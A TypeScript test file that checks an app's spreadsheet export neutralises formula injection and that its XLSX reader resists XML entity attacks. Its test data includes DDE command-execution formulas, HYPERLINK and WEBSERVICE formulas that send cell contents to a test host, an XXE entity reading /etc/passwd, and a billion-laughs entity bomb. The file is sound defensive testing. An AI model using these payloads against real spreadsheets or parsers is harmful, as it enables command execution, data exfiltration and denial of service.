// What a spreadsheet would compute leaves the program as text, whoever wrote it and wherever it goes out.

import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { strToU8, unzipSync } from 'fflate';
import writeXlsx from 'write-excel-file/node';
import { readSheet } from '../../src/adapters/documents/read-sheet.ts';
import { safeText } from '../../src/adapters/documents/safe-cell.ts';
import { xlsxOf } from '../../src/adapters/documents/write-book.ts';
import type { Sheet } from '../../src/application/book.ts';
import { aWorkbook, inline } from '../support/zip.ts';

const root = path.join(import.meta.dirname, '../..');
const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
const payloads = [
  ...starts.map((start) => `${start}1+1`),
  ...starts.map((start) => `${start}cmd|' /C calc'!A0`),
  '=HYPERLINK("https://example.test/?"&A1,"Xem")',
  '=IMPORTXML("https://example.test","//a")',
  '=WEBSERVICE("https://example.test/"&A1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1";=1+1',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1","=2+2',
  '=1+1\r\n=2+2',
  '=1+1;=2+2',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝１＋１',
  '=DDE("cmd";"/C calc";"x")',
  '=-1',
  '==1',
  '=@A1',
];
const computed = /^[=+\-@\t\r\n\0＝＋－＠]/u;

describe('Spreadsheets', () => {
  it('S6: no payload is a formula once it went through the one function that all cells go through', () => {
    expect(payloads.length).to.be.at.least(40);
    for (const payload of payloads) {
      expect(safeText(payload), JSON.stringify(payload)).to.equal(`'${payload}`);
      expect(safeText(safeText(payload)), 'twice is once').to.equal(`'${payload}`);
    }
  });

  it('S6: a CSV with payloads in it reads back as texts, none of which would be computed', () => {
    const line = (cells: readonly string[]): string =>
      cells.map((cell) => `"${safeText(cell).replaceAll('"', '""')}"`).join(',');
    const csv = payloads.map((payload) => line(['SNV', payload, payload])).join('\r\n');

    const read: string[][] = parse(csv, { relax_column_count: true });

    expect(read).to.have.length(payloads.length);
    for (const cell of read.flat()) expect(computed.test(cell), JSON.stringify(cell)).to.equal(false);
  });

  it('S6: an XLSX with payloads in it has texts in its cells and no formula', async () => {
    const kept = payloads.filter((payload) => !payload.includes('\0'));
    const cells = kept.map((payload) => [{ type: String, value: safeText(payload) }]);
    const file = await writeXlsx(cells).toBuffer();

    const parts = unzipSync(new Uint8Array(file));
    const sheet = Buffer.from(parts['xl/worksheets/sheet1.xml'] as Uint8Array).toString();

    expect(sheet.match(/<c /g)).to.have.length(kept.length);
    expect(sheet).to.not.match(/<f[ >]/);
    expect(sheet).to.not.match(/<c [^>]*t="str"/);
  });

  it('S6: a sheet with sums has formulas of ours and of nobody else, made of places alone, with the figure beside them', async () => {
    const kept = payloads.filter((payload) => !payload.includes('\0'));
    const sheet: Sheet = {
      name: "=1+1 & 'x'",
      heading: 2,
      widths: [20, 10],
      print: { head: [1, 2], merged: [], strong: [] },
      rows: [
        ['=1+1'],
        ['=cmd', '=sum'],
        ...kept.map((payload, index) => [payload, index]),
        ['@total', { total: 7, of: [{ rows: [2, kept.length + 1], columns: [1, 1] }] }],
      ],
    };
    const parts = unzipSync(new Uint8Array(await xlsxOf({ fileName: 'x', sheets: [sheet] })));
    const xml = Buffer.from(parts['xl/worksheets/sheet1.xml'] as Uint8Array).toString();

    expect(xml.match(/<f>[^<]*<\/f>(<v>[^<]*<\/v>)?/g)).to.deep.equal([`<f>SUM(B3:B${kept.length + 2})</f><v>7</v>`]);
    const texts = Buffer.from(parts['xl/sharedStrings.xml'] as Uint8Array).toString();
    for (const [, text = ''] of texts.matchAll(/<t[^>]*>([^<]*)<\/t>/g))
      expect(computed.test(text), JSON.stringify(text)).to.equal(false);
  });

  it('S6: whatever in the program writes a spreadsheet takes its texts from that function', () => {
    const writers = readdirSync(path.join(root, 'src'), { recursive: true, encoding: 'utf8' })
      .filter((name) => name.endsWith('.ts'))
      .map((name) => [name, readFileSync(path.join(root, 'src', name), 'utf8')] as const)
      .filter(([, text]) =>
        /from 'write-excel-file|from 'csv-stringify|type: 'text\/csv|attachment;[^']*\.csv/.test(text),
      );

    for (const [name, text] of writers) expect(text, name).to.match(/safeText/);
  });

  it('S5: an XLSX that wants files, addresses or a flood through entities gets none of them', async () => {
    const laughs = ['<!ENTITY a0 "ha">']
      .concat(Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "&a${n};&a${n};">`))
      .join('');
    const attacks = [
      ['<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'],
      ['<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://127.0.0.1:1/">]>', '&xxe;'],
      ['<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd">', 'a'],
      [`<!DOCTYPE x [${laughs}]>`, '&a30;'],
    ] as const;
    for (const [head, text] of attacks) {
      const xml = `${head}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${inline('A1', text)}</row></sheetData></worksheet>`;
      const file = aWorkbook([{ xml: '' }], { more: { 'xl/worksheets/sheet1.xml': strToU8(xml) } });

      const read = await readSheet(file).then(
        ({ rows }) => JSON.stringify(rows),
        (error: { code?: string }) => String(error.code),
      );

      expect(read, head).to.not.match(/root:|haha/);
      expect(read.length, head).to.be.below(200);
    }
  });
});
